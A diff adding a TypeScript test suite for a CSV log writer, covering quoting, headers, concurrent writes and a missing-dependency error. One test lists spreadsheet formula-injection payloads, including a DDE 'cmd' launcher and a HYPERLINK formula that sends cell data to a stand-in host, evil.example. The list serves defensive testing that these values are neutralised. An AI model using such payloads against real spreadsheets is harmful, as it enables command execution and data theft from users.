@@ -1,0 +1,155 @@
+import assert from 'node:assert/strict'
+import { spawn } from 'node:child_process'
+import { once } from 'node:events'
+import { readFileSync, writeFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { text } from 'node:stream/consumers'
+import { test } from 'node:test'
+import { parse } from 'csv-parse/sync'
+import { csv, type TrackedValue } from 'deedbox/chests'
+import { tempFolder } from '../end-to-end/ledger-process.ts'
+import { aRecord, entriesOf } from './entries.ts'
+import { failureOf } from './failing-write.ts'
+import { csvKind } from './line-kinds.ts'
+
+const columns = 'entry_id,request_id,name,value,type,created_at,route,method,status,error,service,env,tags'
+
+test('FC-23 a row for each variable, under a row of names', async t => {
+  const file = join(tempFolder(t), 'vars.csv')
+  const chest = csv(file, { tags: { app: 'shop' } })
+  const timestamp = Date.UTC(2026, 10, 30, 5, 7, 56) * 1_000 + 42
+  const record = aRecord({ requestId: 'r-1', timestamp, error: 'it, "broke"\ntwice', status: 500 })
+  await chest.write(
+    entriesOf(record, [
+      ['user', 'Ann, "the" one'],
+      ['total', -2.5],
+    ]),
+  )
+  const job = aRecord({ requestId: 'j-1', timestamp, route: null, method: null, status: null })
+  await chest.write(entriesOf(job, [['note', 'two\nlines']]))
+  const end = (rest: string): string => `2026-11-30T05:07:56.000042Z,${rest},shop,test,"{""app"":""shop""}"`
+  assert.equal(
+    readFileSync(file, 'utf8'),
+    [
+      columns,
+      `${record.id}.0,r-1,user,"Ann, ""the"" one",string,${end('/items/:id,GET,500,"it, ""broke""␊twice"')}`,
+      `${record.id}.1,r-1,total,-2.5,number,${end('/items/:id,GET,500,"it, ""broke""␊twice"')}`,
+      `${job.id}.0,j-1,note,"""two\\nlines""",string_json,${end(',,,')}`,
+      '',
+    ].join('\n'),
+  )
+})
+
+/** What spreadsheets are known to run, or to take for something else; and what only looks guarded. */
+const formulas = [
+  ...['=1+1', "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?x="&A1,"click")', '@SUM(1+1)*cmd'],
+  ...['+1+1', '-1+1', '-2', '\t=1', '\r=1', '\n=1', '＝1+1', '＋1', '－1', '＠SUM(1)', '";=1', '",=1,"'],
+  ...["'=1", "'", "''=1", "'a", ' =1', '', '=', '"=1"', '%0A=1', 'a\r\n=1', '\u2028=1', '\0=1'],
+]
+
+test('FC-23 no cell is a formula, and all is read back as it was', async t => {
+  const file = join(tempFolder(t), 'vars.csv')
+  const values: TrackedValue[] = [
+    ...formulas,
+    ...formulas.map(formula => [formula]),
+    -1,
+    0,
+    1e21,
+    5e-324,
+    true,
+    null,
+    {},
+  ]
+  const records = formulas.map(formula =>
+    aRecord({
+      requestId: formula,
+      route: formula,
+      method: formula,
+      error: formula,
+      service: formula,
+      env: formula,
+    }),
+  )
+  const written = [
+    ...entriesOf(
+      aRecord(),
+      values.map((value, i) => [`n${i}`, value]),
+    ),
+    ...records.flatMap((record, i) => entriesOf(record, [[formulas[i]!, i]])),
+  ]
+  await csv(file, { tags: { '=1': '=2' } }).write(written)
+  const content = readFileSync(file, 'utf8')
+  const cells = parse(content).flatMap(row => row as unknown as string[])
+  for (const cell of cells)
+    assert(
+      !/^[=+@\t\r\n＝＋－＠]/.test(cell) && (!cell.startsWith('-') || Number.isFinite(Number(cell))),
+      cell,
+    )
+  const read = csvKind.read(content)
+  assert.deepEqual(
+    read.slice(0, values.length).map(({ value }) => value),
+    values,
+  )
+  assert.equal(content.trimEnd().split('\n').length, written.length + 1, 'a line each')
+})
+
+test('FC-29 the names of the columns stand once at the top, whoever comes first', async t => {
+  const folder = tempFolder(t)
+  const file = join(folder, 'vars.csv')
+  const chests = Array.from({ length: 20 }, () => csv(file))
+  await Promise.all(chests.map((chest, n) => chest.write(entriesOf(aRecord(), [['n', n]]))))
+  const lines = readFileSync(file, 'utf8').trimEnd().split('\n')
+  assert.equal(lines.length, 21)
+  assert.equal(lines[0], columns)
+  assert.equal(lines.filter(line => line === columns).length, 1)
+  const empty = join(folder, 'empty.csv')
+  writeFileSync(empty, '')
+  await csv(empty).write(entriesOf(aRecord(), [['n', 1]]))
+  assert.equal(csvKind.read(readFileSync(empty, 'utf8')).length, 1)
+})
+
+test('a file with other columns is left as it is', async t => {
+  const file = join(tempFolder(t), 'other.csv')
+  writeFileSync(file, 'id,name\n1,Ann\n')
+  const { code, message } = await failureOf(csv(file))
+  assert.equal(code, 'unavailable')
+  assert.match(message, /its first line names other columns/)
+  assert.equal(readFileSync(file, 'utf8'), 'id,name\n1,Ann\n')
+})
+
+test('FC-24 without its package it says what to install, and entries wait', async t => {
+  const file = join(tempFolder(t), 'vars.csv')
+  const source = `
+    import { registerHooks } from 'node:module'
+    registerHooks({
+      resolve(specifier, context, next) {
+        if (!specifier.startsWith('csv-stringify')) return next(specifier, context)
+        throw Object.assign(new Error('Cannot find package'), { code: 'ERR_MODULE_NOT_FOUND' })
+      },
+    })
+    const { csv } = await import('deedbox/chests')
+    const { aRecord, entriesOf } = await import('./entries.ts')
+    const chest = csv(process.argv[1])
+    const { code, message } = await chest.write(entriesOf(aRecord(), [['n', 1]])).catch(error => error)
+    console.log(JSON.stringify({ code, message, check: await chest.check() }))`
+  const { NODE_TEST_CONTEXT, ...env } = process.env
+  const flags = ['--conditions=@deedbox/source', '--input-type=module-typescript', '-e', source]
+  const child = spawn(process.execPath, [...flags, file], {
+    cwd: import.meta.dirname,
+    env,
+    stdio: ['ignore', 'pipe', 'inherit'],
+  })
+  t.after(() => child.kill('SIGKILL'))
+  const [said] = await Promise.all([text(child.stdout), once(child, 'exit')])
+  const { code, message, check } = JSON.parse(said)
+  assert.equal(code, 'driver_missing')
+  assert(
+    message.startsWith(
+      `CSV(name=${file}): the package csv-stringify could not be loaded; run: npm i csv-stringify`,
+    ),
+  )
+  assert.deepEqual(
+    check.map(({ level, message: told }: { level: string; message: string }) => [level, told]),
+    [['error', message]],
+  )
+})
